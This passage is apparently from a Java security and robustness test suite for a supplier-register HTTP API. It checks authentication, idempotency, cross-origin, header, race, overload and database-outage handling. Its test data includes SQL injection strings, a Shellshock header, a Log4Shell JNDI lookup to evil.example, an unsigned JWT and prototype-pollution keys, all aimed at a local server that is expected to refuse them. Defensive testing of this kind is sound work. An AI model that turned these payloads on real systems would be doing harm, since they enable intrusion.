                new Json.Arr(java.util.Collections.nCopies(2_000, new Json.Num(1))),
                Json.Obj.builder().build(),
                Json.Obj.builder().with("__proto__", Json.Obj.builder().build()).build());
        List<Case> cases = new ArrayList<>();
        // Every refusal is fine but the schema's rules; nobody of these two may do most of it, and what they may
        // do, a field of the wrong kind must stop. A text where a text belongs is not wrong.
        for (Operation o : operations.all()) {
            if (o.schema().isEmpty()) {
                continue;
            }
            Json.Obj sample = (Json.Obj) Operations.value(o.schema().get());
            List<String> names = List.copyOf(sample.members().keySet());
            for (String token : List.of(grace, dilip)) {
                for (String name : names) {
                    for (Json kind : kinds) {
                        if (kind.getClass() == sample.find(name).orElseThrow().getClass()) {
                            continue;
                        }
                        Json.Obj.Builder body = Json.Obj.builder();
                        sample.members().forEach((n, v) -> body.with(n, n.equals(name) ? kind : v));
                        byte[] bytes = CanonicalJson.bytes(body.build());
                        cases.add(() -> send(
                                o + " " + name + " " + shown(CanonicalJson.text(kind)),
                                with(o, token, bytes),
                                HARMLESS));
                    }
                }
                Json.Obj.Builder more = Json.Obj.builder();
                sample.members().forEach(more::with);
                byte[] extra =
                        CanonicalJson.bytes(more.with("admin<script>", true).build());
                cases.add(() -> send(o + " with an unknown field", with(o, token, extra), HARMLESS));
            }
        }
        all(cases);
    }

    private static byte[] with(Operation o, String token, byte[] body) {
        byte[] head = Wire.latin(o.method() + " " + o.filled() + " HTTP/1.1\r\nHost: localhost\r\n" + o.earnest(token)
                + "Content-Length: " + body.length + "\r\n\r\n");
        byte[] all = java.util.Arrays.copyOf(head, head.length + body.length);
        System.arraycopy(body, 0, all, head.length, body.length);
        return all;
    }

    @Test
    void tokens_and_keys() throws Exception {
        List<Case> cases = new ArrayList<>();
        Wanted who = Wanted.refusal("unauthenticated");
        for (Operation o : operations.all()) {
            if (!o.person()) {
                continue;
            }
            String rest = (o.method().equals("GET") ? "" : "Idempotency-Key: " + UUID.randomUUID() + "\r\n")
                    + (o.types().isEmpty() ? "" : "Content-Type: " + o.types().getFirst() + "\r\n");
            for (String authorization : List.of(
                    "",
                    "Authorization:\r\n",
                    "Authorization: Bearer\r\n",
                    "Authorization: Bearer \r\n",
                    "Authorization: " + grace + "\r\n",
                    "Authorization: Basic " + grace + "\r\n",
                    "Authorization: Bearer  x\r\n",
                    "Authorization: Bearer " + grace + "x\r\n",
                    "Authorization: Bearer " + grace.toUpperCase(Locale.ROOT) + "\r\n",
                    "Authorization: Bearer " + grace + ", Bearer " + dilip + "\r\n",
                    "Authorization: Bearer \"" + grace + "\"\r\n",
                    "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n",
                    "Authorization: Bearer ' OR 1=1 --\r\n",
                    "Authorization: Bearer \u00ff\u00fe\r\n",
                    "Authorization: Bearer " + "a".repeat(10_000) + "\r\n",
                    "Authorization: Digest username=\"x\"\r\n",
                    "Cookie: session=" + grace + "\r\n")) {
                cases.add(() -> send(o + " " + shown(authorization), o.request(authorization + rest, o.sample()), who));
            }
            cases.add(() -> send(
                    o + " twice authorised",
                    o.request(
                            "Authorization: Bearer " + grace + "\r\nAuthorization: Bearer " + dilip + "\r\n" + rest,
                            o.sample()),
                    Wanted.refusal("malformed-request")));
            cases.add(() -> send(
                    o + " with a token in the query",
                    o.method() + " " + o.filled() + "?access_token=" + grace + " HTTP/1.1\r\nHost: localhost\r\n" + rest
                            + "\r\n",
                    Wanted.refusal("unknown-parameter")));
            if (o.method().equals("GET")) {
                continue;
            }
            String sure = "Authorization: Bearer " + grace + "\r\n"
                    + (o.types().isEmpty() ? "" : "Content-Type: " + o.types().getFirst() + "\r\n");
            for (String key : List.of(
                    "",
                    "Idempotency-Key:\r\n",
                    "Idempotency-Key: short\r\n",
                    "Idempotency-Key: with spaces in it\r\n",
                    "Idempotency-Key: " + "k".repeat(65) + "\r\n",
                    "Idempotency-Key: '; DROP TABLE person\r\n",
                    "Idempotency-Key: \u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\r\n",
                    "Idempotency-Key: " + MARK + "\r\n")) {
                cases.add(() -> send(
                        o + " " + shown(key),
                        o.request(sure + key, o.sample()),
                        Wanted.refusal("idempotency-key-required", "idempotency-key-invalid")));
            }
            cases.add(() -> send(
                    o + " with two keys",
                    o.request(sure + "Idempotency-Key: aaaaaaaa\r\nIdempotency-Key: bbbbbbbb\r\n", o.sample()),
                    Wanted.refusal("malformed-request")));
            for (String origin : List.of("https://evil.example", "null", "http://localhost.evil.example", "file://")) {
                cases.add(() -> send(
                        o + " from " + origin,
                        o.request(
                                o.earnest(grace) + "Origin: " + origin + "\r\nSec-Fetch-Site: cross-site\r\n",
                                o.sample()),
                        Wanted.refusal("cross-origin")));
            }
        }
        all(cases);
    }

    // ---- reading

    @Test
    void conditions_ranges_and_wishes() throws Exception {
        List<Case> cases = new ArrayList<>();
        for (Operation o : operations.all()) {
            if (!o.method().equals("GET")) {
                continue;
            }
            for (String header : List.of(
                    "If-None-Match: *",
                    "If-None-Match: \"",
                    "If-None-Match: W/",
                    "If-None-Match: " + "\"a\",".repeat(2_000),
                    "If-Match: \"x\"",
                    "If-Modified-Since: yesterday",
                    "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
                    "Range: bytes=0-0",
                    "Range: bytes=-1",
                    "Range: bytes=" + "0-,".repeat(1_000),
                    "Range: lines=1-2",
                    "If-Range: \"x\"",
                    "Accept: ",
                    "Accept: /",
                    "Accept: */*;q=x",
                    "Accept: */*;q=0",
                    "Accept: application/xml",
                    "Accept: " + "a/b,".repeat(2_000),
                    "Accept: ;;;,,,",
                    "Accept-Encoding: gzip;q=zzz",
                    "Accept-Encoding: *;q=0",
                    "Accept-Encoding: " + "gzip,".repeat(1_000),
                    "Accept-Language: " + MARK,
                    "Accept-Charset: utf-16",
                    "Expect: 100-continue",
                    "Expect: 200-ok",
                    "TE: trailers, deflate",
                    "Connection: " + "close, ".repeat(100),
                    "Connection: Host, Authorization",
                    "Keep-Alive: timeout=999999",
                    "Max-Forwards: 0",
                    "Cookie: " + "a=b; ".repeat(1_000),
                    "Referer: https://evil.example/" + MARK,
                    "User-Agent: () { :; }; echo " + MARK,
                    "User-Agent: ${jndi:ldap://evil.example/x}")) {
                cases.add(() -> send(o + " " + shown(header), o.request(header + "\r\n", ""), HARMLESS));
            }
        }
        all(cases);
    }

    @Test
    void what_one_may_not_see_is_what_is_not_there() throws Exception {
        String other = target.cast.suppliers().values().stream()
                .skip(1)
                .findFirst()
                .orElseThrow()
                .person()
                .token();
        String mine =
                target.ask("SELECT a.id FROM application a JOIN person_role r ON r.supplier = a.supplier JOIN person"
                        + " p ON p.id = r.person WHERE p.number = '"
                        + target.cast
                                .suppliers()
                                .values()
                                .iterator()
                                .next()
                                .person()
                                .number() + "' ORDER BY a.id LIMIT 1");
        WRONG.clear();
        for (Operation o : operations.all()) {
            // Who has applied is public; everything else about a case is not.
            if (!o.path().contains("{application}")
                    || !o.method().equals("GET")
                    || o.path().contains("/applicants/")) {
                continue;
            }
            String hidden = o.path()
                    .replace("{application}", mine)
                    .replace("{evidence}", UUID.randomUUID().toString());
            String absent = o.path()
                    .replace("{application}", UUID.randomUUID().toString())
                    .replace("{evidence}", UUID.randomUUID().toString());
            List<String> bodies = new ArrayList<>();
            for (String path : List.of(hidden, absent)) {
                Wire.Reply reply = send(
                                o.toString(),
                                "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + other
                                        + "\r\n\r\n",
                                Wanted.refusal("not-found"))
                        .orElseThrow();
                bodies.add(reply.text().replaceAll("urn:touchstone:request:[0-9a-f]+", ""));
            }
            assertEquals(bodies.get(0), bodies.get(1), o.toString());
        }
        assertEquals(List.of(), List.copyOf(WRONG));
    }

    // ---- races

    @Test
    void one_key_is_one_act_however_often_and_how_fast_it_comes() throws Exception {
        WRONG.clear();
        String owner = target.token("S-001");
        String before = target.ask("SELECT count(*) FROM person");
        String key = UUID.randomUUID().toString();
        List<Wire.Reply> same = together(16, i -> enrol(owner, key, "Q-701"));
        assertEquals(Set.of(201), statuses(same));
        assertEquals(1, same.stream().map(Wire.Reply::text).distinct().count());
        List<Wire.Reply> another = together(16, i -> enrol(owner, key, "Q-" + (710 + i)));
        assertEquals(Set.of(422), statuses(another));
        String fresh = UUID.randomUUID().toString();
        List<Wire.Reply> mixed = together(16, i -> enrol(owner, fresh, "Q-" + (730 + i)));
        assertEquals(
                1,
                mixed.stream().filter(r -> r.status() == 201).count(),
                () -> statuses(mixed).toString());
        assertEquals(Set.of(201, 422), statuses(mixed));
        // The same act under many keys: one of them does it.
        List<Wire.Reply> rivals =
                together(16, i -> enrol(owner, UUID.randomUUID().toString(), "Q-799"));
        assertEquals(
                1,
                rivals.stream().filter(r -> r.status() == 201).count(),
                () -> statuses(rivals).toString());
        assertEquals(Set.of(201, 409), statuses(rivals));
        assertEquals(Integer.toString(Integer.parseInt(before) + 3), target.ask("SELECT count(*) FROM person"));
        assertEquals(List.of(), List.copyOf(WRONG));
    }

    private static Set<Integer> statuses(List<Wire.Reply> replies) {
        return replies.stream().map(Wire.Reply::status).collect(Collectors.toCollection(TreeSet::new));
    }

    private static Wire.Reply enrol(String token, String key, String number) {
        String body = "{\"number\":\"" + number + "\",\"name\":\"Somebody\"}";
        return send(
                        "enrol",
                        "POST /api/v1/people HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token
                                + "\r\nIdempotency-Key: " + key
                                + "\r\nContent-Type: application/json\r\nContent-Length: "
                                + body.length() + "\r\n\r\n" + body,
                        HARMLESS)
                .orElseThrow();
    }

    private static List<Wire.Reply> together(int times, java.util.function.IntFunction<Wire.Reply> act)
            throws Exception {
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Callable<Wire.Reply>> acts = new ArrayList<>();
            for (int i = 0; i < times; i++) {
                int n = i;
                acts.add(() -> act.apply(n));
            }
            List<Wire.Reply> replies = new ArrayList<>();
            for (Future<Wire.Reply> one : threads.invokeAll(acts)) {
                replies.add(one.get());
            }
            return replies;
        }
    }

    /// The largest bodies of every kind, many at once: as many as there is room for are answered, the others are
    /// told to come back, and the process, whose memory is the least that is promised for, goes on.
    @Test
    void bodies_at_once_are_refused_and_do_not_end_the_process() throws Exception {
        String owner = target.ask("SELECT p.number FROM person p JOIN person_role r ON r.person = p.id"
                + " WHERE r.role = 'supplier-admin' AND p.number IN ("
                + target.cast.suppliers().values().stream()
                        .map(s -> "'" + s.person().number() + "'")
                        .collect(Collectors.joining(","))
                + ") AND NOT EXISTS (SELECT FROM application a WHERE a.supplier = r.supplier AND a.state IN"
                + " ('draft', 'returned', 'submitted')) ORDER BY p.number LIMIT 1");
        String token = target.cast.suppliers().values().stream()
                .map(s -> s.person())
                .filter(p -> p.number().equals(owner))
                .findFirst()
                .orElseThrow()
                .token();
        String supplier = target.ask("SELECT r.supplier FROM person p JOIN person_role r ON r.person = p.id"
                + " WHERE p.number = '" + owner + "' AND r.supplier IS NOT NULL LIMIT 1");
        String opening = "{\"supplier\":\"" + supplier + "\",\"scheme\":\"sra\",\"level\":\"standard\"}";
        Wire.Reply opened = ask("POST /api/v1/applications HTTP/1.1\r\nHost: localhost\r\n" + heads(token)
                + "Content-Type: application/json\r\nContent-Length: " + opening.length() + "\r\n\r\n" + opening);
        assertEquals(201, opened.status(), opened::text);
        String evidence = opened.header("Location").orElseThrow() + "/evidence?type=policy-document&dated=2026-01-01";
        byte[] text = new byte[20 << 20];
        Arrays.fill(text, (byte) 'a');
        byte[] brackets = ("{\"files\":[" + "{},".repeat(99_000) + "{}" + " ".repeat(3_000_000) + "]}")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] form = Wire.latin("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.json\"\r\n\r\n"
                + "a".repeat(15_000_000) + "\r\n--x--\r\n");
        Map<String, List<Integer>> answers = new TreeMap<>();
        answers.put("evidence", crowd(8, _ -> head(evidence, heads(token) + "Content-Type: text/plain", text), text));
        answers.put(
                "check", crowd(8, _ -> head("/check", "Content-Type: multipart/form-data; boundary=x", form), form));
        answers.put(
                "batch",
                crowd(8, _ -> head("/check/batch", "Content-Type: multipart/form-data; boundary=x", form), form));
        answers.put(
                "json", crowd(16, _ -> head("/api/v1/checks", "Content-Type: application/json", brackets), brackets));
        System.out.println("abuse: bodies at once " + answers);
        assertTrue(target.alive(), answers.toString());
        assertEquals(200, get("/health/ready").status());
        // What was lost on the way was sent away while it was still coming; 0 stands for it.
        assertTrue(
                answers.values().stream()
                        .flatMap(List::stream)
                        .allMatch(s -> s == 0 || s == 503 || s == 429 || s >= 200 && s < 500),
                answers.toString());
        assertTrue(java.util.Objects.requireNonNull(answers.get("evidence")).contains(201), answers.toString());
        assertTrue(java.util.Objects.requireNonNull(answers.get("check")).contains(422), answers.toString());
        assertTrue(
                answers.values().stream().flatMap(List::stream).anyMatch(s -> s == 503 || s == 0),
                answers + ": more than there is room for was sent");
    }

    private static String heads(String token) {
        return "Authorization: Bearer " + token + "\r\nIdempotency-Key: " + UUID.randomUUID() + "\r\n";
    }

    private static String head(String path, String headers, byte[] body) {
        return "POST " + path + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\nContent-Length: " + body.length
                + "\r\n\r\n";
    }

    /// The statuses of so many requests at once with this body; 0 for one that was not answered.
    private static List<Integer> crowd(int times, java.util.function.IntFunction<String> head, byte[] body)
            throws Exception {
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Callable<Integer>> acts = new ArrayList<>();
            for (int i = 0; i < times; i++) {
                String request = head.apply(i);
                acts.add(() -> {
                    try (Wire wire = new Wire(target.port)) {
                        return wire.send(request)
                                .send(body)
                                .reply(false)
                                .map(Wire.Reply::status)
                                .orElse(0);
                    } catch (IOException e) {
                        return 0;
                    }
                });
            }
            List<Integer> statuses = new ArrayList<>();
            for (Future<Integer> one : threads.invokeAll(acts)) {
                statuses.add(one.get());
            }
            return statuses.stream().sorted().toList();
        }
    }

    // ---- the database away

    private static Wire.Reply ask(String request) throws IOException {
        try (Wire wire = new Wire(target.port)) {
            return wire.send(request).reply(false).orElseThrow();
        }
    }

    private static Wire.Reply get(String path) throws IOException {
        return ask("GET " + path + " HTTP/1.1\r\nHost: localhost\r\n\r\n");
    }

    private static void until(int status, String path) throws Exception {
        Wire.Reply reply = get(path);
        for (int i = 0; i < 300 && reply.status() != status; i++) {
            Thread.sleep(100);
            reply = get(path);
        }
        assertEquals(status, reply.status(), reply.toString());
    }

    @Test
    void an_outage_of_the_database_is_told_as_one_and_ends_by_itself() throws Exception {
        until(200, "/health/ready");
        target.cutDatabase();
        try {
            until(503, "/health/ready");
            assertTrue(get("/health/ready").text().contains("the database"));
            assertEquals(200, get("/health/live").status());
            assertEquals(200, get("/health/startup").status());
            assertEquals(200, get("/metrics").status());
            List<Case> cases = new ArrayList<>();
            WRONG.clear();
            Set<Integer> seen = java.util.concurrent.ConcurrentHashMap.newKeySet();
            for (Operation o : operations.all()) {
                cases.add(() -> {
                    try {
                        Wire.Reply reply = ask(with(o));
                        seen.add(reply.status());
                        if (reply.status() == 503 && !o.path().equals("/health/ready")) {
                            String code = StrictJson.parseObject(reply.body()).text("code");
                            if (!Set.of("unavailable", "busy", "read-only").contains(code)
                                    || reply.header("Retry-After").isEmpty()) {
                                WRONG.add(o + ": " + reply);
                            }
                        } else if (reply.status() >= 500 && reply.status() != 503) {
                            WRONG.add(o + ": " + reply);
                        }
                    } catch (IOException e) {
                        WRONG.add(o + ": " + e);
                    }
                });
            }
            try (ExecutorService many = Executors.newFixedThreadPool(32)) {
                for (Case one : cases) {
                    many.submit(one::run);
                }
            }
            assertEquals(List.of(), List.copyOf(WRONG));
            assertTrue(seen.contains(503), seen.toString());
        } finally {
            target.giveDatabaseBack();
        }
        until(200, "/health/ready");
        until(200, "/suppliers");
        until(200, "/log/checkpoint");
        until(200, "/suppliers.json?q=harbour");
        String me = "GET /api/v1/me HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + grace + "\r\n\r\n";
        assertEquals(200, ask(me).status());
    }

    private static String with(Operation o) {
        return o.request(o.earnest(grace), o.sample());
    }

    @Test
    void a_statement_that_does_not_end_is_ended_and_others_are_told_to_wait() throws Exception {
        until(200, "/suppliers");
        try (java.sql.Connection lock = target.connect()) {
            lock.setAutoCommit(false);
            try (java.sql.Statement statement = lock.createStatement()) {
                statement.execute("LOCK TABLE register_supplier IN ACCESS EXCLUSIVE MODE");
            }
            ConcurrentLinkedQueue<String> codes = new ConcurrentLinkedQueue<>();
            try (ExecutorService many = Executors.newVirtualThreadPerTaskExecutor()) {
                for (int i = 0; i < 120; i++) {
                    String path = i % 2 == 0 ? "/suppliers?q=harbour" : "/suppliers.json?q=harbour&status=in-force";
                    many.submit(() -> {
                        Wire.Reply reply = get(path);
                        codes.add(reply.status() + " "
                                + StrictJson.parseObject(reply.body()).text("code")
                                + reply.header("Retry-After").map(_ -> " later").orElse(""));
                        return reply;
                    });
                }
            }
            assertEquals(120, codes.size());
            assertEquals(Set.of("503 busy later", "503 unavailable later"), new TreeSet<>(codes));
            assertEquals(200, get("/health/ready").status(), "the rest goes on");
            assertEquals(200, get("/log/checkpoint").status());
            lock.rollback();
        }
        until(200, "/suppliers?q=harbour");
    }

    @Test
    void the_log_of_the_server_holds_no_fault() throws Exception {
        String log = target.log();
        assertFalse(
                log.contains("touchstone.fault"),
                () -> log.lines()
                        .filter(l -> l.contains("touchstone.fault"))
                        .limit(3)
                        .collect(Collectors.joining("\n")));
        assertFalse(log.contains("zq7"), "what a client sends is not written to the log");
    }
}
